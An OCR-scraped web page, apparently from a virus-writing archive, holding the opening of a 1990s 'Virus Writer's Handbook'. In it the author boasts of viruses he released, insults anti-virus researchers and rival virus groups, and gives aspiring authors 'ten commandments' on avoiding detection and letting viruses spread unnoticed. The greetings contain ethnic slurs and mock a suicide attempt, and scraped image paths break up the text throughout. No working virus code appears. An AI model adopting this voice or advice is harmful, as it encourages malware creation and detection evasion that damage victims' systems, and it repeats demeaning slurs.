VX Heaven

Library Collection Sources Engines Constructors Simulators Utilities Links Forum

VIRUSES: What they are, What they do, How they are written (The Virus Writer's Handbook: The Complete Guide)

Terminator Z

[Back to index] [Comments]


Greetings to all who are reading this purely informational text file. This file is aimed at educating the public on the subject of viruses - what they are, how they work, and what techniques a virus author is likely to use. BY NO MEANS IS THIS TEXT FILE AIMED TO BE USED IN THE CREATION OF A VIRUS! The use to which this text file is put, however, is in the hands of the reader, and I am to bear no responsibility whatsoever as to forthcoming liveware which drawsinformation out of this text file.

I have written this text file because I think it is a good means of communicating ideas and concepts to others. I have written a number of viruses which were *accidently* released into the public domain (bad luck). All my viruses to date (except a few lame attempts a few years back) have been TSR COM and EXE file infectors at least. Some were stealth, some were only quasi-stealth, others infected the partition table as well... I even wrote a boot sector virus (BSV). In other words, I have done it all. (let's not get too carried away here...) I do not claim to have made the smallest of their kind, although sometimes that is the case; eg. MicroAcne, the COM/EXE/OVL/SYS/Partition/Quasi-Stealth /Self-Encrypting virus, which was under 2k. The only viruses which come anywhere near that at this pointin time is the Tequila virus(EXE/Partition/Quasi-Stealth/Self-Encrypting, 3k), Invol (EXE/SYS/Self-Encrypting, 1.5k), Invader (COM/EXE/Boot/Warmboot-Survive, 4k), and so on.

I HATE HATE HATE HATE HATE overwriting non-resident viruses. Any wanker can program them. EvenRock Steady [NuKE] progressed onto the big Non-Resident Parasitic COM infector long ago. If he can, you can.

(and BTW, I used the handle Harry McBungus when writing my viruses. That was my other handle, and I have shed it.)

With all that out of the way, we can start.

(BTW, ONAK are worse than PCNK in VSUM)


I might as well greet a few people in here since this issure to travel far. It may not be the best place to greet some of these people, but who gives a fuck.

Patricia Hoffman.
I could write pages of stuff to you, mostly highlighting your need to gain some programming skill and ability to recognize viral structures etc. It doesn't half show up when 60-70% of your entries include the text string... "It is unknown what else this virus does besides replicate". Anyway, love you much, dont forget to turn your electric buddy off when you go to bed.
John McFuck.
Nicesensationalist mickey-mouse outfit of a virus company. Wanker.
Peter Norton.
Nice anti-virus software. Runs like an epileptic with stroboscopic sunglasses.
Nice contribution to society. Boom boom.
Optical Illusion...
Got a spare laptop?..
J.O.E. Grafix,
Music and programming? Love it. I need to talk to you. And yes I agree with your statement regarding Hard Core... he DOES program like a headless chicken...
Acid Phreak..
Grow some new parents.. or at least put them up for adoption
Lord Venom.
I need to talk to you, call Wizards Tower some time.I'll give you some nice source codes.
Suicide Tsui.
Use Morpheine next time. You won't need to have your stomach pumped then.
Fucking lame. At least you're trying.
Rock Steady.
Yeah you've got a bit of promise, but you've done nothing fancy enough to support that inflated ego. Try to make something without ripping off someone else's source code. And no I'm not picking on you, you're just the first person that comes to mind on some things...
Nice virus buddy.
Storm Waterdrain.
Nuggas in effect hhehe yeppo


Just one dedication, fellas...

"[this document is] Dedicated to the dynamic memories of the millions of viruses who are no longer with us today."

- Ashar/Brain virus

Oh and thanks to Faith No More, Nirvana, Metallica, Led Zeppelin,Red Hot Chili Peppers, Jimi Hendrix and Public Enemy for the soundtracks to which this text file was written.

Notes to virus groups

RABID They may not have been the best viruses, but you did it by the numbers. Absolutely nothing to rave about though, except maybe [Su2] sorry I mean DataRape 2.. but you ripped 95% of that anyway (but at least it's listed "Common"). Sorry to see you die. Best virus to date: Sunday-2

NuKE Attitude problems from hell. Getting your viruses into VSUM is not the penultimate goal of virusing. It's writing a small, fast, quickly-spreading virus which is WORTH admiring. Not like 903 bytes of shitty Nonresident COM infector. As I said, you're coming closer, but still a long LONG way to go. And throw away your Vienna source. It's a bad influence. Best virus to date: A shit vienna clone

CPI Were those newsletters supposed to be funny? Generic virus? Renaming EXEs to COMs? Ha! Best virus to date: An even worse vienna clone NoT Nice virus division. Written anything yet? Best virus to date: ??? SCP DO NOT WRITE ANOTHER OVERWRITING VIRUS. I will get very angry."Southern Corrupt Programmers"? I'm not knocking you, at least you're doing something constructive, even if it is ONLY an overwriting nonresident COM infector..<smirk>.. As I said, I want to have a chat with you guys. You can make it. You don't have much competition from the abovementioned groups. Best virus to date: Viper

CAVE Noticed your viruses in VSUM. Anything new? Best virus to date: Hydra series

ABT Even though you're asian you're the most successful virus writing group. Even so,they're not worth bragging about either, I mean so what if it can survive a warm boot if it's 4k? I like your boot sector infection. Your code stinks, though. Best viruses to date: Invader, Plastique IVRL Cracker Jack, you are a wanker, your viruses are shit, you're a greasy Italian. You're about as original as Patricia Hoffman.

Sorry if I sound arrogant but I'm just trying to put things in perspective. There are too many egos inflated with little more than hot air.

For the aspiring virus writer

The 10 commandments of virus writing

  1. Thou shalt not create an overwriting virus
  2. Thou shalt not rip off entire viruses and change the copyright
  3. Thou shalt not release fucked viruses
  4. Thou shalt not upload viruses to McFuck
  5. Thou shalt not brag about your viruses
  6. Thou shalt not give friends your viruses
  7. Thou shalt not infect your own machine
  8. Thou shalt not write a virus except in ASSEMBLY
  9. Thoushalt not have stupid messages in your virus
  10. Thou shalt not discuss viruses under your own name (onBBSs)

Guide to the 10 commandments...

Thou shalt not create an overwriting virus
Quite frankly, if you create an overwriting virus after reading this, there is no reason for anyone to treat you as anything other than a complete fuckwit who can't program. Respect is not gained by writing unoriginal lame viruses.
Thou shalt not rip off entire viruses and change the copyright
Any fucker can get the Vienna source, change it a bit, and create yet another variant of an already completely fucked virus. Any fucker can get the Dark Avenger source and edit out some of the myriad bugs and release it as a new virus. Any fucker can get the NF30 source (by me) and edit it and release it as a new virus. It's just not on. The problem is that John McFuck is laughing all the way to the bank, some stupid company paying megabucks for virus protection when they see how many viruses there are. They don't realize most of them are shit nonresident COM infectors. Make McFuck work for his money.
Thou shalt not release fucked viruses.I could have released my first-ever virus 18 months ago. It was a lame Nonresident parasitic COM infector, 572 bytes long, going in a loop until there were no files left to be infected. This was dead easy to spot. Unlike many, MANY lame virus writers, I decided against its release until I could make something worth releasing. There is simply no reason to release fucked viruses. Do you want to be known for a few lame NRP COM infectors? No. So don't.
Thou shalt not upload viruses to McFuck
Lamers tend to be anxious to get into VSUM and the likes. But I doubt that anyone realizes that if you have written a genuinely decent virus, it will wind up there on its own accord? Ever heard of natural selection? Even if you do write a decent virus and upload it to McFuck hoping for early recognition, you'll go down in virus history as the wanker who cut his own virus's throat by not letting it spread by itself. (Yes I'm talking to you, RockSteady.. heh)
Thou shalt not brag about your viruses
This is a very important rule. You'll give yourself a bad name with the scene. You're very likely to let slip something which will get you hung. You can be tricked into saying things you don't mean by reporters and such (like I did). I learned the hard way. You WILL learn to regret it if you don't heed my advice. If you are good enough to be noticed.
Thou shalt not give friends your viruses
As Rodney Rude put it...
  • a: "She bled to death from Gonorrhea"
  • b: "but gonorrhea won't make you bleed to death..."
  • a: "It does when you give it to me!"

No Frills 2.0 was on a disk which contained the Galactix zip, which I gave to a friend... He ran it (the virus), wondering what the file did, then read the file NOFRILLS2.TXT by loading up QEdit. Upon reading he realized that it was a virus, and rebooted, forgetting the infected QEdit. He proceeded to give the game Gods around (infected) and it spread around the local lame pirate scent and onto some key computers, from which the virus skipped around the globe.

You don't give viruses to your friends if you want to keep them.

Thou shalt not infect your own machine
A small dose of common sense will tell you this is true. Don't infect your own machine, regardless whether you're stepping through someone else's with a debugger or your own... unless you know EXACTLY what you're doing. (I do it all the time, but of course I know which bits to disable with my debugger).
Thou shalt not write viruses except in ASSEMBLY
What a wanker you would be to write a virus in Pascal, C or even Basic for the severely disabled. This goes without saying.
Thou shalt not have stupid messages in your virus
Oneof the easiest ways for your virus to be detected is to leave spurious and obvious text strings in your virus. A good example of a reject who does this without fail is Rock Steady, eg. "ParaSite Virus 1.x Released Montreal 199x by Rock Steady [NuKE]" This is a sign you're only doing it for VSUM. Not a good thing to do. Not only are they easy to spot, they can confuse the walnut-brained AV researchers enough to misname your virus. This is not nice...I think they do it on purpose. Of course, text strings are acceptable if your virus is encrypted.

I am not saying that I am completely innocent of this. My first public release, X-Fungus, was riddled with the things. It spread quickly, though, with most people in my area relying totally on signature scanners to detect viruses...which is funny, for if they had the virus, every file they scanned would become infected.. hehe. You'll probably see them in VSUM if you look hard enough.

Thou shalt not discuss viruses under your own name (on BBSs)
See point 5 for a description of the effects. Apart from looking stupid you will be used as a scapegoat by the users on the board.

Most of the commandments are just common sense, but it is disturbing to note how many of today's virus writers are very stupid in this regard, to commit genocide on their own viruses by not following the above "rules".

Overview of viruses

In this chapter we willdiscuss the virus's anatomy, its general effects on system performance, and other aspects of virusing. Also a brief background on the legal side of things, and the common misconceptions of viruses in the public and media.

What is a virus?

It is important to distinguish between a virus and a trojan. Technically speaking, a virus is a trojan, but a trojan is not a virus. The technical defintion of a trojan is a piece of code which does something that the program isnt supposed to do; eg. the original Cascade TROJAN, which was meant to be a program to turn off the numlock at bootup (which the code MOV DS, AX/MOV [417h], 0/INT 20H will do), but instead dumped all the characters on the screen in a pile on the bottom. This was a TROJAN: the program was not what it was labelled. BUT later on, the code to do that was incorporated into a VIRUS (now known as the 170x/Cascade virus). Viruses can be classed as "portable trojans" which MODIFY programs to do what they aren't labelled to do; ie. spread the virus. (this is not the best description available, and I hope you follow).

code which is disguised as something else
portable trojan (again, the terrible distinction. I know in my own mind what the difference is. I hope I communicated the drift.)

What kinds ofviruses are there?

